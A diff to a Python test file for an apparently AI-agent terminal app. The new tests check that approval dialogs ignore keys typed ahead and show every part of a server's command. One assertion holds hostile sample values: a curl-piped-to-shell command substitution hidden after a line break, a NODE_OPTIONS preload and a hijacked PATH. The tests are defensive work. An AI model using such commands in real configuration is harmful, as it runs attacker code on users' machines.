@@ -23,11 +23,12 @@ from textual.widgets import Static
 from bassi.core.settings import ToolsMode
 from bassi.ui.app import BassiApp
 from bassi.ui.screens.approval import ApprovalScreen
+from bassi.ui.screens.guarded import DROPPED, QUIET_SECONDS
 from bassi.ui.screens.tool_card import ToolCardScreen
 from bassi.ui.screens.trust import TrustScreen
 from mcp_servers import SHIPPED_SERVERS
 from tests.scripted_model import ScriptedModel, reply, text, tool_call
-from tests.trust_fixtures import ScriptedProject, scripted_tool
+from tests.trust_fixtures import SNEAKY, ScriptedProject, scripted_tool
 from tests.ui.conftest import AppFactory, python_first
 from tests.ui.helpers import screen_text, submit, wait_for
 
@@ -76,8 +77,10 @@ async def turn_done(pilot: Pilot[object], app: BassiApp, last_words: str) -> Non
 
 
 async def approval(pilot: Pilot[object], app: BassiApp) -> ApprovalScreen:
+    """Until the tool-call dialog shows and a person would have read it (keys before that
+    are taken as typed ahead, ``guarded``)."""
     await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen), 60, "the dialog")
-    await pilot.pause()
+    await pilot.pause(QUIET_SECONDS)
     assert isinstance(app.screen, ApprovalScreen)
     return app.screen
 
@@ -89,11 +92,44 @@ async def trust_dialog(pilot: Pilot[object], app: BassiApp) -> str:
         return isinstance(app.screen, TrustScreen) and "Approve this project?" in screen_text(app)
 
     await wait_for(pilot, shown, 20, "the project's approval dialog")
+    await pilot.pause(QUIET_SECONDS)
     return screen_text(app)
 
 
 def arguments_shown(dialog: ApprovalScreen) -> str:
     return str(dialog.query_one(".approval-arguments-text", Static).content)
+
+
+async def test_keys_typed_as_the_dialog_appears_do_not_answer_it(
+    scripted_model: ScriptedModel, make_app: AppFactory, chat_env: dict[str, str], marker: Marker
+) -> None:
+    """The dialog takes the keyboard from the prompt mid-sentence: the "s" of "yes please"
+    would allow the whole server for good, its Enter the focused button. A burst of keys is
+    dropped and the dialog says so; a key after a pause answers, and Enter then denies."""
+    scripted_model.script(
+        reply(write_marker(marker)), text("You said no."),
+        reply(write_marker(marker)), text("Still no."),
+    )  # fmt: skip
+    app = make_app(env=chat_env, shipped=BASH)
+    async with app.run_test(size=BIG) as pilot:
+        await app.runtime.catalog.wait_ready(20)
+        await submit(pilot, "write the marker")
+        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen), 60, "the dialog")
+        await pilot.press(*"yes please", "enter")
+        await wait_for(pilot, lambda: DROPPED in screen_text(app), 10, "the dialog saying so")
+        assert isinstance(app.screen, ApprovalScreen)
+        assert app.runtime.grants.pins == [] and app.runtime.grants.servers == []
+        assert not marker.ran()
+        await pilot.pause(QUIET_SECONDS)
+        await pilot.press("d")
+        await turn_done(pilot, app, "You said no.")
+
+        await submit(pilot, "write it after all")
+        await approval(pilot, app)
+        await pilot.press("enter")
+        await turn_done(pilot, app, "Still no.")
+        assert not marker.ran()
+        assert app.runtime.grants.pins == [] and app.runtime.grants.servers == []
 
 
 @pytest.mark.parametrize("mode", [ToolsMode.AUTO, ToolsMode.ALL, ToolsMode.PROGRESSIVE])
@@ -186,6 +222,24 @@ async def test_a_projects_allow_rule_counts_only_once_the_user_approved_the_proj
         await submit(pilot, "now write it")
         await turn_done(pilot, app, "Ran by the rule.")
         assert marker.ran()
+
+
+async def test_the_projects_dialog_shows_all_that_would_run_not_only_the_first_line(
+    project: Path, make_app: AppFactory
+) -> None:
+    """``PATH`` in an entry's environment decides which ``npx`` runs, ``NODE_OPTIONS`` what
+    it loads first, and a line break in an argument hid the rest of the command line: the
+    person approves everything, so everything is shown."""
+    (project / "sub").mkdir()
+    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"sneaky": SNEAKY}}))
+    app = make_app(approved=False)
+    async with app.run_test(size=BIG) as pilot:
+        shown = await trust_dialog(pilot, app)
+        assert "TOKEN=$(curl x | sh) line two" in shown
+        assert "env NODE_OPTIONS=--require ./x.js" in shown
+        assert "env PATH=./bin:/usr/bin" in shown
+        assert f"in {project / 'sub'}" in shown
+        await pilot.press("escape")
 
 
 async def test_an_unapproved_servers_file_starts_nothing_until_approved_in_the_app(
